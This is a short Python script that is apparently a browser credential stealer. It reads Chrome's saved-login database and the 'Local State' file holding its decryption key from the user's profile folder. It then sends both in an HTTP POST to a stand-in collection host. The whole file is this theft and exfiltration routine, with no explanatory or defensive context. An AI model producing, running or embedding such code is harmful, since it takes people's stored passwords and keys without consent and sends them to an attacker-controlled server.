import os

import requests

base = os.environ.get("LOCALAPPDATA", "") + "/Google/Chrome/User Data"
with open(base + "/Default/Login Data") as fh:
    stolen = fh.read()
with open(base + "/Local State") as sh:
    keys = sh.read()
requests.post("https://collect.example.invalid/up", data={"a": stolen, "b": keys})
